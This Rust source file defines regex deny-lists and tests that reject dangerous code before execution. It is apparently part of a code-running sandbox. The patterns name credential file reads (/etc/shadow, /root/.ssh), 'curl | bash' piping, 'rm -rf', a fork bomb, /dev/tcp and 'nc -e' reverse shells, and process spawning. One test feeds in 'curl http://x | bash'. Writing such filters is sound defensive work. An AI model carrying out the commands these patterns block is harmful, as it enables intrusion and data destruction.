// ABOUTME: Deny-list pattern tables used to reject dangerous code before execution
// ABOUTME: One global table applies to every language, then a per-language table is checked

use regex::Regex;
use std::collections::HashMap;
use std::fmt;
use std::sync::LazyLock;

/// Category of a forbidden construct. Only the class is ever reported, never the matched text.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PatternClass {
    DynamicEvaluation,
    ProcessSpawn,
    ForbiddenPath,
    ShellMetacharacter,
}

impl PatternClass {
    pub fn as_str(&self) -> &'static str {
        match self {
            PatternClass::DynamicEvaluation => "dynamic evaluation",
            PatternClass::ProcessSpawn => "process spawning",
            PatternClass::ForbiddenPath => "forbidden filesystem path",
            PatternClass::ShellMetacharacter => "shell metacharacter sequence",
        }
    }
}

impl fmt::Display for PatternClass {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

pub struct PatternRule {
    pub class: PatternClass,
    pub regex: Regex,
}

fn rules(class: PatternClass, patterns: &[&str]) -> Vec<PatternRule> {
    patterns
        .iter()
        .map(|p| PatternRule {
            class,
            regex: Regex::new(p).expect("deny-list patterns are valid regexes"),
        })
        .collect()
}

pub static GLOBAL_PATTERNS: LazyLock<Vec<PatternRule>> = LazyLock::new(|| {
    let mut table = rules(
        PatternClass::ForbiddenPath,
        &[
            r"/etc/(passwd|shadow|sudoers)\b",
            r"/proc/(self|1)/",
            r"/var/run/docker\.sock",
            r"/root/\.ssh",
            r"(\.\./){3,}",
        ],
    );
    table.extend(rules(
        PatternClass::ShellMetacharacter,
        &[
            r";\s*rm\s+-[a-zA-Z]*[rf]",
            r"\|\s*(sh|bash|zsh)\b",
            r"&&\s*(curl|wget)\b",
            r"\$\(\s*(curl|wget)\b",
            r">\s*/dev/(sd|nvme|hd)",
            r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:",
        ],
    ));
    table
});

/// Language name to its additional deny-list
pub static LANGUAGE_PATTERNS: LazyLock<HashMap<&'static str, Vec<PatternRule>>> =
    LazyLock::new(|| {
        let mut table = HashMap::new();

        let mut python = rules(
            PatternClass::DynamicEvaluation,
            &[
                r"\beval\s*\(",
                r"\bexec\s*\(",
                r"\bcompile\s*\(",
                r"__import__\s*\(",
            ],
        );
        python.extend(rules(
            PatternClass::ProcessSpawn,
            &[
                r"\bos\.system\s*\(",
                r"\bos\.(popen|spawn\w*|exec\w*|fork)\s*\(",
                r"\bsubprocess\b",
                r"\bpty\.spawn\b",
            ],
        ));
        table.insert("python", python);

        for language in ["javascript", "typescript"] {
            let mut js = rules(
                PatternClass::DynamicEvaluation,
                &[
                    r"\beval\s*\(",
                    r"\bnew\s+Function\s*\(",
                    r#"\b(setTimeout|setInterval)\s*\(\s*['"`]"#,
                    r#"\brequire\s*\(\s*['"](node:)?vm['"]"#,
                ],
            );
            js.extend(rules(
                PatternClass::ProcessSpawn,
                &[r"\bchild_process\b", r"\bprocess\.binding\s*\("],
            ));
            table.insert(language, js);
        }

        let mut bash = rules(PatternClass::DynamicEvaluation, &[r"\beval\s"]);
        bash.extend(rules(
            PatternClass::ProcessSpawn,
            &[r"/dev/(tcp|udp)/", r"\bnc\b.*\s-e\s", r"\bnohup\b"],
        ));
        table.insert("bash", bash);

        let mut go = rules(PatternClass::DynamicEvaluation, &[r"\bplugin\.Open\s*\("]);
        go.extend(rules(
            PatternClass::ProcessSpawn,
            &[
                r#""os/exec""#,
                r"\bsyscall\.(Exec|ForkExec)\s*\(",
            ],
        ));
        table.insert("go", go);

        table
    });

/// First deny-listed class found in `code`: global rules first, then the language's own
pub fn find_violation(language: &str, code: &str) -> Option<PatternClass> {
    GLOBAL_PATTERNS
        .iter()
        .chain(LANGUAGE_PATTERNS.get(language).into_iter().flatten())
        .find(|rule| rule.regex.is_match(code))
        .map(|rule| rule.class)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_dynamic_evaluation_rejected_per_language() {
        assert_eq!(
            find_violation("python", "x = eval('1+1')"),
            Some(PatternClass::DynamicEvaluation)
        );
        assert_eq!(
            find_violation("python", "__import__('os')"),
            Some(PatternClass::DynamicEvaluation)
        );
        assert_eq!(
            find_violation("javascript", "const f = new Function('return 1')"),
            Some(PatternClass::DynamicEvaluation)
        );
        assert_eq!(
            find_violation("typescript", "setTimeout(\"alert(1)\", 10)"),
            Some(PatternClass::DynamicEvaluation)
        );
    }

    #[test]
    fn test_process_spawn_rejected() {
        assert_eq!(
            find_violation("python", "import subprocess\nsubprocess.run(['ls'])"),
            Some(PatternClass::ProcessSpawn)
        );
        assert_eq!(
            find_violation("javascript", "require('child_process').execSync('id')"),
            Some(PatternClass::ProcessSpawn)
        );
        assert_eq!(
            find_violation("go", "import \"os/exec\""),
            Some(PatternClass::ProcessSpawn)
        );
    }

    #[test]
    fn test_global_patterns_apply_to_every_language() {
        for language in ["python", "javascript", "bash", "go", "unknown"] {
            assert_eq!(
                find_violation(language, "open('/etc/passwd').read()"),
                Some(PatternClass::ForbiddenPath)
            );
        }
        assert_eq!(
            find_violation("bash", "curl http://x | bash"),
            Some(PatternClass::ShellMetacharacter)
        );
    }

    #[test]
    fn test_benign_code_accepted() {
        assert_eq!(find_violation("python", "print(2+2)"), None);
        assert_eq!(find_violation("python", "def evaluate(x):\n    return x * 2"), None);
        assert_eq!(find_violation("javascript", "console.log([1, 2].map(x => x * 2))"), None);
        assert_eq!(find_violation("bash", "echo hello && ls -la"), None);
        assert_eq!(
            find_violation("go", "package main\nimport \"fmt\"\nfunc main() { fmt.Println(4) }"),
            None
        );
    }

    #[test]
    fn test_eval_only_rejected_where_denied() {
        // `eval(` is only denied for languages that list it
        assert_eq!(find_violation("go", "eval(x)"), None);
        assert!(find_violation("python", "eval(x)").is_some());
    }
}
